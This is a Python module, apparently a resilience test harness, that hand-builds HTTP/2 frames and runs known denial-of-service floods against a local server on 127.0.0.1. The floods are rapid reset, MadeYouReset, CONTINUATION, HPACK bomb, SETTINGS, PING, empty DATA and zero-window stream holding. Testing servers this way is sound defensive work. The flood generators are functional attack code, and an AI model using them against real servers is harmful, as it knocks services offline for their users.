"""What abusers do over HTTP/2, frame by frame."""

import asyncio
import itertools
import time

from beside import signed_headers

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Of these floods each piece is a stream.
OF_STREAMS = ("rapid reset", "MadeYouReset", "HPACK bomb")


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack(headers):
    """Literals that are not indexed."""
    def text(value):
        value, length = value.encode(), len(value.encode())
        if length < 127:
            return bytes([length]) + value
        rest, left = bytearray([127]), length - 127
        while left >= 128:
            rest.append(left % 128 | 128)
            left //= 128
        return bytes(rest + bytes([left])) + value
    return b"".join(b"\0" + text(name) + text(value) for name, value in headers)


def block(endpoint, method, path, keys=None, **more):
    """The head of a request, signed if there are keys."""
    authority = endpoint.split("/")[2]
    pseudo = [(":method", method), (":scheme", "http"), (":path", path), (":authority", authority)]
    headers = signed_headers(method, endpoint + path, keys) if keys else {}
    return hpack(pseudo + [(name, value) for name, value in (headers | more).items() if name != "host"])


def streams(make, most):
    """The frames that `make` gives for each stream, `most` streams on a connection."""
    return lambda: (make(index * 2 + 1) for index in range(most))


def floods(endpoint, keys):
    """By name: the frames of one connection, made anew for each."""
    get = block(endpoint, "GET", "/bench/00000001", keys)
    put = block(endpoint, "PUT", "/bench/00000001", keys)
    cancel, no_increment = (8).to_bytes(4, "big"), bytes(4)
    padding = frame(CONTINUATION, 0, 1, hpack([("x-padding", "p" * 1000)]))
    # One entry of the table, named thousands of times.
    bomb = b"\x40\x01x" + bytes([127]) + bytes([(3000 - 127) % 128 | 128, (3000 - 127) // 128]) + b"v" * 3000 + b"\xbe" * 11_000
    return {
        "rapid reset": streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, get) + frame(RST_STREAM, 0, stream, cancel), 100_000),
        "MadeYouReset": streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, get) + frame(WINDOW_UPDATE, 0, stream, no_increment), 100_000),
        "CONTINUATION": lambda: itertools.chain([frame(HEADERS, END_STREAM, 1, get)], itertools.repeat(padding, 100_000)),
        "HPACK bomb": streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, get + bomb), 1_000),
        "SETTINGS": lambda: itertools.repeat(frame(SETTINGS, 0, 0), 1_000_000),
        "PING": lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)), 1_000_000),
        "empty DATA": lambda: itertools.chain([frame(HEADERS, END_HEADERS, 1, put)], itertools.repeat(frame(DATA, 0, 1), 1_000_000)),
    }


async def swallow(reader):
    while await reader.read(65536):
        pass


async def one_connection(port, frames, until):
    """Frames sent until the other end had enough of it, and whether it had."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    gone = asyncio.ensure_future(swallow(reader))
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    sent, pieces = 0, iter(frames)
    try:
        while not gone.done() and time.monotonic() < until and (some := list(itertools.islice(pieces, 50))):
            writer.write(b"".join(some))
            await writer.drain()
            sent += len(some)
            await asyncio.sleep(0)
        await asyncio.wait([gone], timeout=0.2)
        ended = gone.done()
    except OSError:
        ended = True
    gone.cancel()
    if gone.done() and not gone.cancelled():
        gone.exception()
    writer.transport.abort()
    return sent, ended


async def flood(port, make, seconds, at_once=8):
    """Connection upon connection, until the time is over."""
    until, total, connections, ended = time.monotonic() + seconds, 0, 0, 0

    async def again_and_again():
        nonlocal total, connections, ended
        while time.monotonic() < until:
            sent, by_them = await one_connection(port, make(), until)
            total, connections, ended = total + sent, connections + 1, ended + by_them
    await asyncio.gather(*(again_and_again() for _ in range(at_once)))
    return {"pieces": total, "connections": connections, "ended": ended}


async def no_window(port, head, connections, per_connection, seconds, window=0):
    """Requests on streams into each of which `window` bytes may be sent. Gives how many connections the other end has closed after that time."""
    held = []
    for number in range(connections):
        # The last ones later: they take the places that the good client gave back meanwhile.
        await asyncio.sleep(0.5 if number > connections - 3 else 0)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        # SETTINGS_INITIAL_WINDOW_SIZE is 4.
        writer.write(PREFACE + frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + window.to_bytes(4, "big")))
        writer.write(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, index * 2 + 1, head) for index in range(per_connection)))
        held.append((asyncio.ensure_future(swallow(reader)), writer))
    await asyncio.wait([gone for gone, _ in held], timeout=seconds)
    closed = sum(gone.done() for gone, _ in held)
    for gone, writer in held:
        gone.cancel()
        writer.transport.abort()
    return {"closed": closed}
